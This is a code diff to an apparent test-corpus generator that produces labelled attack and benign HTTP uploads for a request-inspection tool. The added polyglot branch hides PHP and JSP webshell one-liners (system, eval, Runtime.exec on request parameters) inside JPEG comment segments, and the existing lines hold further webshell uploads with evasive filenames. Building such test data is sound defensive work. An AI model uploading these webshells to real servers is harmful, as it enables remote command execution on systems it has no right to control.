@@ -7,7 +7,7 @@ records; the content type decides how Weir parses each body."""
 import json
 
 from corpus_common import (HOST_GRAPHQL, HOST_SOAP, HOSTS_API, UA_ATTACK, auth_header, base_headers, form_body, pct,
-                           png_bytes, rand_str, uuid4, xml_text, ALNUM, HEX)
+                           jpeg_bytes, png_bytes, rand_str, uuid4, xml_text, ALNUM, HEX)
 from corpus_payloads_inj import weighted
 from corpus_payloads_struct import NOSQL_JSON_LOGIN, XXE_TARGETS, _xxe_doc, graphql_request
 from corpus_payloads_inj import OAST, ATTACKER_IPS
@@ -362,7 +362,7 @@ def multipart_attack(rng):
     host = rng.choice(HOSTS_API)
     h = _headers(rng, host, True)
     b = _boundary(rng)
-    form = weighted(rng, [("field", 45), ("filename", 22), ("filename_star", 6), ("json_part", 10), ("svg", 6), ("webshell", 6), ("field_name", 5)])
+    form = weighted(rng, [("field", 45), ("filename", 22), ("filename_star", 6), ("json_part", 10), ("svg", 6), ("webshell", 6), ("polyglot", 4), ("field_name", 5)])
     eol = "\n" if rng.random() < 0.1 else "\r\n"
     evs = ["lf_only"] if eol == "\n" else []
     fields = _mp_fields(rng)
@@ -400,6 +400,15 @@ def multipart_attack(rng):
                             "<?=`$_GET[0]`?>", "GIF89a<?php passthru($_GET['cmd']); ?>", "<% Runtime.getRuntime().exec(request.getParameter(\"cmd\")); %>"])
         parts.append(_part("file", shell, filename=rng.choice(["shell.php", "avatar.php.jpg", "x.phtml", "cmd.jsp", "image.php5", "a.php%00.png"]),
                            ctype=rng.choice(["image/jpeg", "application/x-php", "image/gif"]), eol=eol))
+        placement = "multipart_file"
+    elif form == "polyglot":
+        # A real image with the shell in its comment segment: binary bytes
+        # (zone body_file), run when stored under the web root.
+        cls, evasion = "cmd_injection", "polyglot_upload"
+        shell = rng.choice([b"<?php system($_GET['cmd']); ?>", b"<?php @eval($_POST['x']);?>", b"<?=`$_GET[0]`?>",
+                            b"<%@ page import=\"java.io.*\" %><% Runtime.getRuntime().exec(request.getParameter(\"c\")); %>"])
+        parts.append(_part("avatar", jpeg_bytes(rng, rng.randrange(1000, 6000), comment=shell),
+                           filename=rng.choice(["me.jpg", "avatar.php.jpg", "IMG_0042.jpeg"]), ctype="image/jpeg", eol=eol))
         placement = "multipart_file"
     elif form == "field_name":
         cls, value, evasion = attack_value(rng, [("sqli", 5), ("xss", 3)])
@@ -440,8 +449,17 @@ def multipart_benign(rng):
         cls = rng.choice(sorted(GQL_OPS_BY_CLASS))
         fields.append((param_for(rng, cls), benign_param_value(rng, cls)))
     parts = [_part(n, v) for n, v in fields]
-    kind = rng.choice(["png", "csv", "pdf", "json", "text", "utf8name"])
-    if kind == "png":
+    kind = rng.choice(["png", "csv", "pdf", "json", "text", "utf8name", "photo", "archive"])
+    if kind == "photo":
+        # Camera-sized uploads: compressed bytes hold every short byte run by
+        # chance (text rules matched 1 in 3 of these before zone body_file).
+        parts.append(_part("file", jpeg_bytes(rng, rng.randrange(4000, 24000)), filename=rng.choice(["IMG_2031.jpg", "scan 04.jpeg", "receipt.jpg"]),
+                           ctype=rng.choice(["image/jpeg", "application/octet-stream"])))
+    elif kind == "archive":
+        parts.append(_part("file", b"PK\x03\x04\x14\x00\x00\x00\x08\x00" + bytes(rng.randrange(256) for _ in range(rng.randrange(2000, 16000))),
+                           filename=rng.choice(["logs.zip", "report.docx", "export (2).xlsx"]),
+                           ctype=rng.choice(["application/zip", "application/vnd.openxmlformats-officedocument.wordprocessingml.document", ""])))
+    elif kind == "png":
         parts.append(_part("file", png_bytes(rng, rng.randrange(4, 12), rng.randrange(4, 12)), filename=rng.choice(["me.png", "avatar (1).png", "IMG_2024.png"]), ctype="image/png"))
     elif kind == "csv":
         rows = ["name,company,city,notes"] + ['"%s","%s",%s,"%s"' % (person(rng).replace('"', '""'), company(rng).replace('"', '""'), city(rng)[0],
